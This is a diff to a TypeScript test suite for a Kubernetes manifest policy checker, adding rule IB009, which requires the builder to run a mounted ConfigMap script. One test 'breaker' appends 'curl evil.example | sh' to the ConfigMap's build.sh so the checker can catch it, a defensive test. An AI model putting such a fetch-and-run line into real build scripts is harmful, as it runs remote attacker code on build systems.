@@ -28,6 +28,7 @@ const BREAKERS: Record<string, (ms: Manifest[]) => void> = {
   IB006: (ms) => { builder(ms).volumes[0].hostPath.type = undefined; },
   IB007: (ms) => { registry(ms).spec.replicas = 2; },
   IB008: (ms) => { builder(ms).containers[0].securityContext.readOnlyRootFilesystem = true; },
+  IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap')!.data['build.sh'] += 'curl evil.example | sh\n'; },
 };
 
 describe('policy', () => {
@@ -41,7 +42,7 @@ describe('policy', () => {
 
   test('the committed dist/ YAML, read as kubectl reads it (YAML 1.1), keeps every rule', () => {
     const manifests = parseManifests(distText());
-    expect(manifests.map((m) => m.kind)).toEqual(['Deployment', 'Service', 'Job']);
+    expect(manifests.map((m) => m.kind)).toEqual(['Deployment', 'Service', 'ConfigMap', 'Job']);
     expect(checkPolicy(manifests)).toEqual([]);
   });
 
@@ -50,7 +51,7 @@ describe('policy', () => {
     BREAKERS[id](manifests);
     const violations = checkPolicy(manifests);
     expect(violations.map((v) => v.rule)).toEqual([id]);
-    expect(violations[0].object).toMatch(/^(Job|Deployment)\//);
+    expect(violations[0].object).toMatch(/^(Job|Deployment|ConfigMap)\//);
     expect(violations[0].fix.length).toBeGreaterThan(10);
   });
 
@@ -93,6 +94,17 @@ describe('policy', () => {
     for (const image of ['registry', 'registry:latest', 'localhost:30500/worker', 'docker.io/library/docker']) {
       expect(checkPolicy(pod(image)).map((v) => v.rule)).toEqual(['IB003']);
     }
+  });
+
+  test('IB009: the builder runs the ConfigMap script, and the ConfigMap ships with it', () => {
+    const inline = clone(synthDefault());
+    builder(inline).containers[0].command = ['sh', '-c', 'echo hi'];
+    expect(checkPolicy(inline).map((v) => `${v.rule} ${v.path}`)).toEqual(['IB009 spec.template.spec.containers[0].command']);
+    const missing = clone(synthDefault()).filter((m) => m.kind !== 'ConfigMap');
+    expect(checkPolicy(missing).map((v) => v.message)).toEqual([expect.stringMatching(/^ConfigMap "image-builder-script" is not in the same output/)]);
+    const unmounted = clone(synthDefault());
+    builder(unmounted).containers[0].volumeMounts = builder(unmounted).containers[0].volumeMounts.filter((vm: any) => vm.mountPath !== '/opt/image-builder');
+    expect(checkPolicy(unmounted).map((v) => v.message)).toEqual(['no ConfigMap volume mounted at /opt/image-builder']);
   });
 
   test('IB006: a hostPath outside builders is refused', () => {
